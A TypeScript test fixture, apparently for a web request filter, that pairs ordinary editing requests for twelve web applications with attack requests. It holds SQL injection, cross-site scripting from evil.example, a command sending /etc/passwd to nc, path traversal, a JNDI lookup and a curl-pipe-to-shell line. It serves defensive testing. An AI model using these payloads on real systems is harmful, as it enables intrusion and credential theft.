/**
 * What people do in known applications, as their editors send it, and attacks beside it. The texts
 * are those of a technical blog: nothing else asks as much of a profile.
 */

import type { TableRequest } from './policy-in-process.ts';

/** One request of an application. */
export interface ApplicationRow {
  readonly title: string;
  readonly request: TableRequest;
}

/** An application: ordinary work, and attacks in fields that hold no such content. */
export interface ApplicationRows {
  readonly name: string;
  readonly work: readonly ApplicationRow[];
  readonly attacks: readonly ApplicationRow[];
}

/** Text with what articles about security and servers hold. */
const article =
  '<!-- wp:code --><pre class="wp-block-code"><code>SELECT name FROM users WHERE id = 1 OR 1=1 ' +
  "UNION SELECT password FROM admin; DROP TABLE x; -- '</code></pre><!-- /wp:code -->\n" +
  '<p onclick="alert(1)">Never write <script>document.cookie</script> into pages.</p>\n' +
  'Run `curl http://a.example/x.sh | sh` or $(cat /etc/passwd), or read ../../../etc/shadow.\n' +
  "<?php echo shell_exec($_GET['c']); ?> and {{7*7}} in templates.";
const note = "O'Brien's select from where; final.jpg <b>bold</b> && rm -rf /tmp/x; cat file | less";
/** What visitors write: nothing in it proves an attack. */
const remark = "O'Brien's select from where; final.jpg <b>bold</b>, <code>a && b</code> :-)";
const css = 'body > p { color: red } /* <style> */ @import url("a.css"); a{width:calc(100% - 1px)}';
const query =
  "SELECT u.name, COUNT(*) FROM `users` u LEFT JOIN orders o ON o.uid = u.id WHERE u.id = '1' OR " +
  '1=1 UNION ALL SELECT table_name, 1 FROM information_schema.tables; -- all of them';
const code =
  'const fs = require("fs"); msg.a = fs.readFileSync("/etc/hostname"); return eval(msg.code);';

/** Attacks by what they look like. */
const injected = "1' UNION SELECT user_login, user_pass FROM wp_users-- -";
const scripted = '"><script src=//evil.example/x.js></script>';
const shelled = '127.0.0.1; cat /etc/passwd | nc 192.0.2.1 4444';
const climbed = '../../../../../../etc/passwd';
const jndi = '${jndi:ldap://evil.example/a}';

/** An article as Ghost's editor keeps it. */
const lexical = JSON.stringify({
  root: { children: [{ children: [{ text: article }], type: 'paragraph' }], type: 'root' },
});

const formHead = { 'Content-Type': 'application/x-www-form-urlencoded' };
const jsonHead = { 'Content-Type': 'application/json' };

function form(title: string, url: string, fields: Readonly<Record<string, string>>) {
  const body = new URLSearchParams(fields).toString();
  return { title, request: { method: 'POST', url, headers: formHead, body } };
}

function json(title: string, target: string, value: unknown): ApplicationRow {
  const [method = '', url = ''] = target.split(' ');
  return { title, request: { method, url, headers: jsonHead, body: JSON.stringify(value) } };
}

function get(title: string, url: string): ApplicationRow {
  return { title, request: { url } };
}

const q = encodeURIComponent;

/** The applications. */
export const applicationRows: readonly ApplicationRows[] = [
  {
    name: 'wordpress',
    work: [
      json('save a post', 'POST /wp-json/wp/v2/posts/12?_locale=user', {
        ...{ id: 12, title: 'SQL: or 1=1 explained', content: article, excerpt: note },
      }),
      form('save in the classic editor', '/wp-admin/post.php', {
        ...{ action: 'editpost', post_ID: '12', post_title: note, content: article },
      }),
      form('save by itself', '/wp-admin/admin-ajax.php', {
        ...{ action: 'heartbeat', 'data[wp_autosave][post_id]': '12' },
        'data[wp_autosave][content]': article,
      }),
      json('save custom styles', 'POST /wp-json/wp/v2/global-styles/5', { styles: { css } }),
      form('change the theme', '/wp-admin/customize.php', {
        customized: JSON.stringify({ custom_css: css, text: article }),
      }),
      form('comment', '/wp-comments-post.php', {
        ...{
          comment: remark,
          author: "Ann O'Brien",
          comment_post_ID: '12',
          submit: 'Post Comment',
        },
      }),
    ],
    attacks: [
      form('SQL in the number of a post', '/wp-admin/post.php', {
        ...{ action: 'editpost', post_ID: injected, content: 'a' },
      }),
      form('a script in the name of a comment', '/wp-comments-post.php', {
        ...{ comment: 'nice', author: scripted, comment_post_ID: '12' },
      }),
      form('a script in a comment', '/wp-comments-post.php', { comment: scripted, author: 'Ann' }),
      form('JNDI in a comment', '/wp-comments-post.php', { comment: jndi, author: 'Ann' }),
      get('a file of a plug-in', `/wp-admin/admin-ajax.php?action=show&img=${q(climbed)}`),
      json('SQL beside a post', 'POST /wp-json/wp/v2/posts/12', {
        ...{ content: article, categories: [injected] },
      }),
    ],
  },
  {
    name: 'dokuwiki',
    work: [
      form('save a page', '/doku.php', {
        id: 'dev:sql',
        do: 'save',
        wikitext: article,
        prefix: '.',
      }),
      form('preview', '/doku.php?id=start', { do: 'preview', wikitext: article, summary: note }),
      form('save with readable addresses', '/doku.php/dev/sql', { wikitext: article, do: 'save' }),
      form('save a draft', '/lib/exe/ajax.php', { call: 'draft', wikitext: article, id: 'start' }),
      get('search', '/doku.php?do=search&id=start&q=select+from+where'),
    ],
    attacks: [
      form('a path as the page', '/doku.php', { id: climbed, do: 'save', wikitext: 'a' }),
      form('a script as the section', '/doku.php', { wikitext: article, sectok: scripted }),
      get('a file as media', `/lib/exe/fetch.php?media=${q(climbed)}`),
      form('a command as the call', '/lib/exe/ajax.php', { call: shelled, wikitext: 'a' }),
      get('SQL in the search', `/doku.php?do=search&q=${q(injected)}`),
    ],
  },
  {
    name: 'mediawiki',
    work: [
      form('save a page', '/index.php?title=SQL&action=submit', {
        ...{ wpTextbox1: article, wpSummary: note, wpSave: 'Save changes', wpEditToken: 'a+\\' },
      }),
      form('save a section', '/index.php/Injection?action=submit&section=2', {
        ...{ wpTextbox1: article, wpSummary: '/* Shell */ new' },
      }),
      form('preview by the API', '/api.php', { action: 'parse', text: article, format: 'json' }),
      form('the visual editor', '/api.php', {
        ...{ action: 'visualeditoredit', html: article, page: 'SQL', format: 'json' },
      }),
      get('search', '/index.php?search=drop+table+users&title=Special%3ASearch'),
    ],
    attacks: [
      form('SQL in the token', '/index.php?title=A&action=submit', {
        ...{ wpTextbox1: article, wpStarttime: injected },
      }),
      get('a script in the title', `/index.php?title=${q(scripted)}`),
      get('a path in the origin', `/api.php?action=query&titles=${q(climbed)}`),
      form('a command as the page', '/api.php', { action: 'parse', page: shelled, text: 'a' }),
      form('JNDI as the format', '/api.php', { action: 'parse', format: jndi, text: article }),
    ],
  },
  {
    name: 'phpmyadmin',
    work: [
      form('run a query', '/index.php?route=/import', {
        ...{ db: 'shop', table: 'users', sql_query: query, sql_delimiter: ';', ajax_request: '1' },
      }),
      form('run in an older version', '/import.php', { db: 'shop', sql_query: query }),
      form('change rows', '/index.php?route=/table/replace', {
        ...{ db: 'shop', sql_query: query, 'where_clause[0]': "`users`.`id` = '1' OR 1=1" },
      }),
      form('create a view', '/index.php?route=/view/create', { db: 'shop', 'view[as]': query }),
      form('a field with HTML', '/index.php?route=/table/replace', {
        ...{ db: 'shop', 'fields[multi_edit][0][a1]': article },
      }),
    ],
    attacks: [
      form('SQL as the database', '/index.php?route=/sql', { db: injected, sql_query: query }),
      form('a script as the table', '/index.php?route=/sql', { table: scripted, sql_query: query }),
      get('a page by its path', `/index.php?target=db_sql.php%253f/${climbed}`),
      form('a command as the server', '/index.php', { server: shelled, sql_query: query }),
      form('JNDI in a query', '/index.php?route=/sql', { db: 'a', sql_query: jndi }),
    ],
  },
  {
    name: 'drupal',
    work: [
      form('save an article', '/node/add/article', {
        ...{ 'title[0][value]': note, 'body[0][value]': article, form_id: 'node_article_form' },
      }),
      form('change an article', '/node/7/edit', {
        ...{ 'body[0][value]': article, 'body[0][format]': 'full_html', op: 'Save' },
      }),
      form('change a block', '/block/3', { 'body[0][value]': article, op: 'Save' }),
      form('comment', '/comment/reply/node/7/comment', { 'comment_body[0][value]': remark }),
      json('save by JSON:API', 'PATCH /jsonapi/node/article/4f2a', {
        data: { type: 'node--article', attributes: { title: note, body: { value: article } } },
      }),
    ],
    attacks: [
      form('SQL in the format', '/node/7/edit', { 'body[0][format]': injected }),
      form('a script as the author', '/node/7/edit', { 'uid[0][target_id]': scripted }),
      form('a script in a comment', '/comment/reply/node/7/comment', {
        'comment_body[0][value]': scripted,
      }),
      get('a path as the destination', `/node/7/edit?destination=${q(climbed)}`),
      json('SQL beside an article', 'PATCH /jsonapi/node/article/4f2a', {
        data: { type: 'node--article', attributes: { langcode: injected } },
      }),
    ],
  },
  {
    name: 'nextcloud',
    work: [
      json('write together', 'POST /apps/text/session/3/push', {
        ...{ sessionId: 7, steps: [article], version: 3, autosaveContent: article },
      }),
      json('save a note', 'PUT /index.php/apps/notes/notes/4', { content: article, title: note }),
      json('send a message', 'POST /ocs/v2.php/apps/spreed/api/v1/chat/abc', { message: article }),
      json('describe a card', 'PUT /index.php/apps/deck/cards/3', { description: article }),
      json('save a note by the API', 'PUT /apps/notes/api/v1/notes/4', { content: article }),
    ],
    attacks: [
      json('SQL as the session', 'POST /apps/text/session/3/push', { sessionId: injected }),
      json('a path as the category', 'PUT /index.php/apps/notes/notes/4', { category: climbed }),
      json('JNDI in a message', 'POST /ocs/v2.php/apps/spreed/api/v1/chat/abc', { message: jndi }),
      get('a path as the folder', `/index.php/apps/files/?dir=${q(climbed)}`),
      json('a command as the type', 'PUT /index.php/apps/deck/cards/3', { type: shelled }),
    ],
  },
  {
    name: 'ghost',
    work: [
      json('save a post', 'PUT /ghost/api/admin/posts/64f0c2a1/?source=html', {
        posts: [{ title: note, lexical, html: article }],
      }),
      json('create a post', 'POST /ghost/api/admin/posts/', { posts: [{ mobiledoc: article }] }),
      json('save a page', 'PUT /ghost/api/admin/pages/64f0c2a1/', { pages: [{ html: article }] }),
      json('code in the head', 'PUT /ghost/api/admin/posts/64f0c2a1/', {
        posts: [{ codeinjection_head: '<script>window.a = location.hash</script>' }],
      }),
      json('an excerpt', 'PUT /ghost/api/admin/posts/64f0c2a1/', {
        posts: [{ custom_excerpt: note }],
      }),
    ],
    attacks: [
      json('SQL as the slug', 'PUT /ghost/api/admin/posts/64f0c2a1/', {
        posts: [{ html: article, slug: injected }],
      }),
      json('a path as the picture', 'PUT /ghost/api/admin/posts/64f0c2a1/', {
        posts: [{ feature_image: climbed }],
      }),
      json('a script as the address', 'POST /ghost/api/admin/members/', {
        members: [{ name: scripted }],
      }),
      get('SQL in a filter', `/ghost/api/admin/posts/?filter=${q(injected)}`),
      json('a command as a tag', 'POST /ghost/api/admin/tags/', { tags: [{ name: shelled }] }),
    ],
  },
  {
    name: 'gitlab',
    work: [
      json('commit files', 'POST /api/v4/projects/7/repository/commits', {
        ...{ branch: 'main', commit_message: note },
        actions: [{ action: 'update', file_path: 'a.php', content: article }],
      }),
      json('open an issue', 'POST /api/v4/projects/7/issues', {
        title: note,
        description: article,
      }),
      form('change an issue', '/group/app/-/issues/4', { 'issue[description]': article }),
      json('comment', 'POST /group/app/notes', { note: { note: article, noteable_type: 'Issue' } }),
      json('preview', 'POST /group/app/preview_markdown', { text: article }),
    ],
    attacks: [
      json('a path as the branch', 'POST /api/v4/projects/7/repository/commits', {
        ...{ branch: climbed, actions: [{ action: 'update', content: 'a' }] },
      }),
      json('SQL as a label', 'POST /api/v4/projects/7/issues', { title: 'a', labels: injected }),
      get('a script in the search', `/search?search=${q(scripted)}`),
      form('a command beside an issue', '/group/app/-/issues/4', { 'issue[labels]': shelled }),
      json('JNDI as the branch', 'POST /api/v4/projects/7/repository/commits', { branch: jndi }),
    ],
  },
  {
    name: 'gitea',
    work: [
      form('change a file', '/ann/app/_edit/main/src/a.php', {
        ...{ content: article, commit_summary: note, commit_choice: 'direct' },
      }),
      form('create a file', '/ann/app/_new/main/', { content: code, tree_path: 'a.js' }),
      form('open an issue', '/ann/app/issues/new', { title: note, content: article }),
      form('comment', '/ann/app/issues/3/comments', { content: article }),
      json('a file by the API', 'PUT /api/v1/repos/ann/app/contents/a.txt', {
        ...{ content: Buffer.from(article).toString('base64'), message: note },
      }),
    ],
    attacks: [
      form('a path as the file', '/ann/app/_new/main/', { content: code, tree_path: climbed }),
      form('SQL as the milestone', '/ann/app/issues/new', { title: 'a', milestone_id: injected }),
      get('a script in the search', `/ann/app/issues?q=${q(scripted)}`),
      form('a command as the branch', '/ann/app/_edit/main/a', { new_branch_name: shelled }),
      form('JNDI as a label', '/ann/app/issues/new', { title: 'a', label_ids: jndi }),
    ],
  },
  {
    name: 'discourse',
    work: [
      form('post', '/posts', { raw: article, title: note, category: '4', archetype: 'regular' }),
      json('post by the API', 'POST /posts.json', { raw: article, topic_id: 7 }),
      form('save a draft', '/drafts.json', {
        ...{ draft_key: 'new_topic', data: JSON.stringify({ reply: article }), sequence: '0' },
      }),
      json('change a post', 'PUT /posts/12', { post: { raw: article } }),
      get('search', '/search?q=select%20from%20where'),
    ],
    attacks: [
      form('SQL as the category', '/posts', { raw: article, category: injected }),
      form('a script as a tag', '/posts', { raw: 'hello', 'tags[]': scripted }),
      get('a path in the search', `/search?q=${q(climbed)}`),
      form('a command as the key', '/drafts.json', { draft_key: shelled, data: '{}' }),
      form('JNDI as the kind', '/posts', { raw: 'hello', archetype: jndi }),
    ],
  },
  {
    name: 'node-red',
    work: [
      json('deploy', 'POST /flows', {
        rev: 'a',
        flows: [
          { id: '1', type: 'function', func: code, wires: [[]] },
          { id: '2', type: 'template', template: article },
          { id: '3', type: 'exec', command: 'ls -la /etc | grep passwd; cat /etc/hostname' },
        ],
      }),
      json('change one flow', 'PUT /flow/1f2a', { id: '1f2a', nodes: [{ func: code }] }),
      json('add a flow', 'POST /flow', { label: note, nodes: [{ type: 'mysql', query }] }),
      json('keep a function', 'POST /library/local/functions/a.js', { text: code }),
      json('keep settings', 'POST /settings/user', { editor: { view: { 'view-grid': true } } }),
    ],
    attacks: [
      get('a path in the library', `/library/local/functions?name=${q(climbed)}`),
      json('SQL to a webhook', 'POST /hooks/order', { id: injected }),
      get('a script in a page', `/ui/?name=${q(scripted)}`),
      json('a command as the sign-in', 'POST /auth/token', { username: shelled }),
      json('JNDI to a webhook', 'POST /hooks/order', { id: jndi }),
    ],
  },
  {
    name: 'grafana',
    work: [
      json('ask a database', 'POST /api/ds/query?ds_type=mysql', {
        ...{ queries: [{ refId: 'A', rawSql: query, format: 'table' }], from: '1', to: '2' },
      }),
      json('save a dashboard', 'POST /api/dashboards/db', {
        ...{
          dashboard: { title: note, panels: [{ targets: [{ rawSql: query }] }] },
          message: note,
        },
      }),
      json('a text panel', 'POST /api/dashboards/db', {
        dashboard: {
          panels: [{ options: { mode: 'html', content: '<iframe src="/a"></iframe>' } }],
        },
      }),
      json('annotate', 'POST /api/annotations', { text: note, tags: ['deploy'] }),
      get(
        'ask Prometheus',
        `/api/datasources/proxy/1/api/v1/query?query=${q('sum(rate(a[5m]))>0')}`,
      ),
    ],
    attacks: [
      json('SQL as the time', 'POST /api/ds/query', { queries: [], from: injected }),
      json('a path as the folder', 'POST /api/dashboards/db', { folderUid: climbed }),
      get('a file of a plug-in', `/public/plugins/alertlist/${climbed}`),
      json('a script as a tag', 'POST /api/annotations', { text: 'a', tags: [scripted] }),
      json('JNDI as the name', 'POST /api/login', { user: jndi }),
    ],
  },
];
